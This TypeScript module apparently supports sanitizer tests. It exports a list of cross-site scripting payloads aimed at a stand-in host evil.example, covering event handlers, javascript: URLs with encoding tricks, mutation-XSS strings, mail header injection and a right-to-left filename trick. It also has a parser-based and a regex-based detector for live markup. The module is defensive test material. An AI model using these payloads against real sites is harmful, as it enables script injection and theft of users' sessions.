import { Parser } from 'htmlparser2';

/** Markup that does something when it is shown, in our own words: handlers, elements, addresses, and known ways around filters. */
export const HOSTILE: readonly string[] = [
  ...[
    'onabort',
    'onblur',
    'onclick',
    'onerror',
    'onfocus',
    'onkeydown',
    'onload',
    'onmouseover',
    'onresize',
    'onsubmit',
    'ontoggle',
  ].map((handler) => `<img src="https://tern.example/a.jpg" ${handler}="steal()">`),
  ...[
    'applet',
    'blink',
    'embed',
    'frame',
    'iframe',
    'link',
    'meta',
    'object',
    'script',
    'style',
    'base',
    'portal',
    'marquee',
  ].map(
    (name) =>
      `safe<${name} src="https://evil.example/x" href="javascript:steal()" data="x">steal()</${name}> description`,
  ),
  ...[
    'javascript:steal()',
    'JaVaScRiPt:steal()',
    ' java\nscript:steal()',
    '&#106;avascript:steal()',
    'vbscript:x',
    'data:text/html,<script>steal()</script>',
    '\u0001javascript:steal()',
    'java\u0000script:steal()',
    '//evil.example',
    'https://user:pw@evil.example/',
  ].map((address) => `<a href="${address}">safe</a>`),
  '<p style="background:url(javascript:steal())">safe</p>',
  '<svg><script>steal()</script></svg>safe',
  '<svg/onload=steal()>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
  '<scr<script>ipt>steal()</scr</script>ipt>',
  '<img src=x onerror=steal()//',
  '<img """><script>steal()</script>">',
  '<<script>steal();//<</script>',
  '<!--[if gte IE 4]><script>steal()</script><![endif]-->',
  '<noscript><p title="</noscript><img src=x onerror=steal()>">',
  '<textarea><img src=x onerror=steal()></textarea>',
  '<title><img src=x onerror=steal()></title>',
  '<xmp><script>steal()</script></xmp>',
  '<details open ontoggle=steal()>safe</details>',
  '<form action="https://evil.example"><input name=q autofocus onfocus=steal()></form>',
  '<a href="https://tern.example" onclick=steal() style=x id=y>safe</a>',
  '<p>safe\r\nBcc: evil@evil.example\r\n\r\n<script>steal()',
  '&lt;script&gt;steal()&lt;/script&gt;',
  '&amp;lt;img src=x onerror=steal()&amp;gt;',
  '<a href="https://tern.example/&quot;onmouseover=&quot;steal()">safe</a>',
  '<plaintext><script>steal()',
  '<iframe srcdoc="<script>steal()</script>">',
  '<template><script>steal()</script></template>',
  '<p>safe \u202egpj.exe',
];

const ALLOWED = new Set('p br a strong em ul ol li'.split(' '));

/** What is live in a piece of HTML, as a parser sees it: elements and attributes that a note may not have. */
export function liveParts(html: string): readonly string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!ALLOWED.has(name)) found.push(`<${name}>`);
      for (const [key, value] of Object.entries(attributes))
        if (name !== 'a' || key !== 'href' || !/^(https?:\/\/|mailto:)/.test(value)) found.push(`${key}=${value}`);
    },
    oncomment: (text) => void found.push(`<!--${text}-->`),
    onprocessinginstruction: (name) => void found.push(`<${name}>`),
  });
  parser.end(html);
  return found;
}

const LIVE_TEXT =
  /<[/!?]?(?:script|img|svg|iframe|object|embed|style|link|meta|math|form|input|base|applet|portal|a|p|div|details|marquee|template|textarea|title|xmp|plaintext|noscript)[\s/>]|(?![\t])\p{Cc}|[\u202d\u202e]/iu;

/** What is left of markup in a text for a plain part or a header. */
export const liveText = (text: string): string | undefined => LIVE_TEXT.exec(text)?.[0];
